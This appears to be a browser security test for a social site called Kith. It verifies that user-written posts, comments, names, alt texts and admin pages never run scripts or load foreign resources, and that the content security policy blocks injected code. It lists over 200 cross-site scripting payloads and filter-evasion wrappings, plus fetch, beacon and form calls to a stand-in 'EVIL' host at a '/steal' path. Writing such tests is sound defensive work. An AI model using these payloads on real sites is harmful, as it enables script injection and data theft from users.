// A3, A8, A13 in a real browser: whatever people write, nothing of it runs and nothing is fetched from elsewhere; and
// where a script gets into a page by a hole that nobody knows, the content policy stops it.
import assert from "node:assert/strict";
import { createServer } from "node:http";
import { after, before, test } from "node:test";
import { launch, signIn, visitor } from "../lib/browser.mjs";
import { Kith } from "../lib/kith.mjs";
import { picture } from "../lib/pictures.mjs";

const X = "window.owned=1";
// A server of somebody else, which nobody may ever ask for anything.
const foreign = createServer((request, answer) => { asked.push(request.url); answer.end(); });
const asked = [];
let EVIL = "";

/** Over 200 texts: each way to run a script or to fetch something, in each wrapping that has fooled a filter. */
function vectors() {
  const run = [
    `<script>${X}</script>`, `<script src=${EVIL}/a.js></script>`, `<img src=x onerror=${X}>`, `<img src=${EVIL}/pixel.gif>`, `<svg onload=${X}>`,
    `<svg><script>${X}</script></svg>`, `<svg><a xlink:href="javascript:${X}"><text y=20>a</text></a></svg>`, `<svg><animate onbegin=${X} attributeName=x dur=1s>`,
    `<math><mi xlink:href="data:text/html,<script>${X}</script>">a</mi></math>`, `<iframe src="javascript:${X}"></iframe>`, `<iframe srcdoc="<script>parent.${X}</script>"></iframe>`,
    `<iframe src=${EVIL}></iframe>`, `<object data="${EVIL}/a.swf"></object>`, `<embed src="${EVIL}/a.swf">`, `<video src=x onerror=${X}></video>`, `<audio src=x onerror=${X}>`,
    `<video poster="${EVIL}/p.png"></video>`, `<body onload=${X}>`, `<input autofocus onfocus=${X}>`, `<select autofocus onfocus=${X}>`, `<textarea autofocus onfocus=${X}>`,
    `<details open ontoggle=${X}>`, `<marquee onstart=${X}>`, `<style>@import "${EVIL}/a.css";</style>`, `<style>*{background:url(${EVIL}/b)}</style>`, `<link rel=stylesheet href=${EVIL}/a.css>`,
    `<link rel=prefetch href=${EVIL}/p>`, `<meta http-equiv=refresh content="0;url=${EVIL}">`, `<base href="${EVIL}/">`, `<form action="${EVIL}"><button>a</button></form>`,
    `<div style="background:url(${EVIL}/c)">a</div>`, `<a href="javascript:${X}" id=lure>a</a>`, `<table background="${EVIL}/t">`, `<template><script>${X}</script></template>`,
    `<div hx-get="${EVIL}" hx-trigger="load">a</div>`, `<div hx-on:htmx:load="${X}">a</div>`, `<div data-hx-get="/" hx-trigger=load>a</div>`, `<p data-confirm="x" data-full="${EVIL}/z" data-copy="x">a</p>`,
  ];
  const wrap = [
    (text) => text, (text) => `">${text}`, (text) => `'>${text}`, (text) => `</textarea></title></style></script>${text}`, (text) => `<!--><!--${text}-->`,
  ];
  const plain = [
    `[a](javascript:${X})`, `[a](JaVaScRiPt:${X})`, `[a](java\tscript:${X})`, `[a](&#106;avascript:${X})`, `[a](data:text/html,<script>${X}</script>)`, `[a](vbscript:msgbox(1))`,
    `![a](${EVIL}/i.png)`, `![a](javascript:${X})`, `![a](data:image/svg+xml,<svg onload=${X}>)`, `<javascript:${X}>`, `<${EVIL}/auto>`, `${EVIL}/bare`, `[a][1]\n\n[1]: javascript:${X}`,
    `[a](${EVIL}/"onmouseover="${X})`, "`<script>" + X + "</script>`", "```html\n<img src=x onerror=" + X + ">\n```", `@"><img src=x onerror=${X}>`, `#"><img src=x onerror=${X}>`,
    `{{constructor.constructor('${X}')()}}`, `\${${X}}`, `&lt;script&gt;${X}&lt;/script&gt;`, `%3Cscript%3E${X}%3C/script%3E`, `\u2028<script>${X}</script>`, `＜script＞${X}＜/script＞`,
  ];
  return [...run.flatMap((text) => wrap.map((one) => one(text))), ...plain];
}

let kith, browser, amina;

before(async () => {
  await new Promise((done) => foreign.listen(0, "127.0.0.1", done));
  EVIL = `http://127.0.0.1:${foreign.address().port}`;
  kith = await Kith.start();
  browser = await launch();
  amina = await visitor(browser, kith);
  await signIn(amina, "amina", kith.password);
});
after(async () => {
  await browser?.close();
  await kith?.stop();
  foreign.close();
});

const send = async (path, form) => {
  const csrf = await amina.locator("meta[name=csrf]").getAttribute("content");
  return amina.request.post(path, { form: { csrf, ...form }, maxRedirects: 0 });
};

/** Opens a page, lets everything on it that can be pointed at or opened have its turn, and asks what happened. */
async function isQuiet(path) {
  const dialogs = [];
  amina.once("dialog", (dialog) => { dialogs.push(dialog.message()); void dialog.dismiss(); });
  await amina.goto(path);
  await amina.evaluate(async () => {
    for (const details of document.querySelectorAll("main details")) details.open = true;
    for (const element of document.querySelectorAll("main *")) {
      for (const event of ["mouseover", "mouseenter", "focus", "load", "error"]) if (element.attributes.length) element.dispatchEvent(new Event(event));
    }
    await new Promise((done) => setTimeout(done, 150));
  });
  assert.equal(new URL(amina.url()).origin, kith.address, `${path}: led away`);
  assert.deepEqual(await amina.evaluate(() => [window.owned ?? null, document.querySelectorAll("main :is(script, iframe, object, embed, style, link, base, meta)").length, [...document.querySelectorAll("main a[href]")].filter((link) => !/^(https?|mailto|tel):$/.test(link.protocol)).map((link) => link.href)]), [null, 0, []], path);
  assert.deepEqual([dialogs, amina.complaints.splice(0)], [[], []], path);
}

test("a3_a8_a13_no_text_of_anybody_runs_or_fetches_anything", async (t) => {
  const all = vectors();
  assert.ok(all.length >= 200, `${all.length}`);
  const chunk = (many) => Array.from({ length: Math.ceil(all.length / many) }, (_, at) => all.slice(at * many, at * many + many));
  await t.test("posts, covers and comments", async () => {
    for (const part of chunk(20)) {
      // Every text begins a block of its own, and once it stands behind words.
      const text = part.map((one) => `${one}\n\nwords ${one.split("\n")[0]}`).join("\n\n");
      const answer = await send("/posts", { text, audience: "community", language: "auto", comments: "same", submission: crypto.randomUUID() });
      assert.equal(answer.status(), 303, (await answer.text()).slice(0, 300));
      const path = new URL(answer.headers().location, kith.address).pathname;
      const comment = await send(`${path}/comments`, { text: part.join("\n\n").slice(0, 4900), submission: crypto.randomUUID() });
      assert.equal(comment.status(), 303);
      await isQuiet(path);
    }
    for (const part of all) {
      const answer = await send("/posts", { text: "under a cover", cover: part.slice(0, 100), audience: "community", language: "auto", comments: "same", submission: crypto.randomUUID() });
      assert.ok([303, 422].includes(answer.status()), `${answer.status()} for the cover ${part}`);
    }
    for (let [path, pages] = ["/u/amina", 0]; path && pages < 15; pages++) {
      await isQuiet(path);
      path = await amina.locator("a[rel=next]").first().getAttribute("href", { timeout: 500 }).catch(() => null);
    }
  });
  await t.test("names and introductions", async () => {
    for (const [at, one] of all.entries()) {
      const answer = await send("/me/edit", { display_name: `A ${one}`.slice(0, 50), intro: one.slice(0, 200), pronouns: one.slice(0, 40), languages: "", cover_focus: "center", birth_day: "", birth_month: "", birth_year: "", birth_day_audience: "self", birth_year_audience: "self" });
      assert.ok([303, 422].includes(answer.status()), `${answer.status()} for ${one}`);
      // A name that was refused is still in the form; one that was taken is everywhere.
      if (at % 8 === 0) for (const path of ["/u/amina", "/people"]) await isQuiet(path);
    }
    await isQuiet("/me/edit");
    assert.deepEqual(asked, []);
  });
  await t.test("descriptions of photos", async () => {
    await amina.goto("/new");
    await amina.locator("main textarea[name=text]").fill("A photo");
    await amina.locator("main input[type=file]").setInputFiles([await picture(browser, 1, { width: 120, height: 90 })]);
    await amina.waitForFunction(() => document.querySelector("main input[name=media]")?.value);
    await Promise.all([amina.waitForURL(/\/p\/\d+/), amina.locator("main [data-submit]").click()]);
    const photo = await amina.locator("[data-gallery] a").first().getAttribute("href");
    const post = new URL(amina.url()).pathname;
    for (const part of chunk(12)) {
      assert.equal((await send(photo.replace("/photo/", "/media/") + "/alt", { alt: part.join(" ").slice(0, 1500) })).status(), 303);
      for (const path of [photo, post]) await isQuiet(path);
      await amina.locator("[data-gallery] a").first().click();
      await amina.locator("dialog.viewer[open] .viewer-caption").waitFor();
      assert.equal(await amina.evaluate(() => [window.owned ?? null, document.querySelector(".viewer-caption").children.length].join()), ",0");
    }
  });
  await t.test("site pages, which an admin writes", async () => {
    for (const part of chunk(40)) {
      const answer = await send("/admin/pages/rules/en", { title: part[0].slice(0, 100), body: part.join("\n\n"), do: "save" });
      assert.equal(answer.status(), 303, (await answer.text()).slice(0, 200));
      await isQuiet("/about/rules");
    }
  });
});

test("a3_a_script_that_gets_into_a_page_is_stopped_by_the_policy", async () => {
  await amina.goto("/about");
  const stopped = await amina.evaluate(async (evil) => {
    const violations = [];
    document.addEventListener("securitypolicyviolation", (event) => violations.push(event.effectiveDirective));
    const add = (name, attributes) => document.body.append(Object.assign(document.createElement(name), attributes));
    add("script", { textContent: "window.owned = 'inline'" });
    add("script", { src: `${evil}/a.js` });
    add("script", { src: "data:text/javascript,window.owned='data'" });
    add("script", { src: URL.createObjectURL(new Blob(["window.owned='blob'"])) });
    add("img", { src: `${evil}/pixel.gif` });
    add("iframe", { src: evil });
    add("iframe", { srcdoc: "<script>parent.owned='frame'</script>" });
    add("object", { data: `${evil}/a` });
    add("link", { rel: "stylesheet", href: `${evil}/a.css` });
    document.body.insertAdjacentHTML("beforeend", '<img src="data:," onerror="window.owned=\'handler\'"><p style="color: red">a</p><a id="lure" href="javascript:window.owned=\'link\'">a</a>');
    document.getElementById("lure").click();
    const failed = [];
    // Later, because what a test runs at once is excused from this part of the policy.
    await new Promise((done) => setTimeout(() => {
      try { (0, eval)("window.owned = 'eval'"); } catch { failed.push("eval"); }
      done();
    }));
    await fetch(`${evil}/steal`).catch(() => failed.push("fetch"));
    navigator.sendBeacon?.(`${evil}/beacon`);
    const form = add("form", { action: `${evil}/form`, method: "post" }) ?? document.body.lastElementChild;
    form.submit?.();
    await new Promise((done) => setTimeout(done, 800));
    return { owned: window.owned ?? null, failed, violations: [...new Set(violations)].sort(), at: location.origin };
  }, EVIL);
  assert.equal(stopped.owned, null);
  assert.equal(stopped.at, kith.address);
  assert.deepEqual(stopped.failed, ["eval", "fetch"]);
  for (const directive of ["connect-src", "img-src", "script-src-attr", "script-src-elem", "style-src-attr", "style-src-elem", "frame-src", "object-src", "form-action"]) {
    assert.ok(stopped.violations.includes(directive), `${directive} in ${stopped.violations}`);
  }
  assert.deepEqual(asked, [], "nobody else was asked for anything");
});
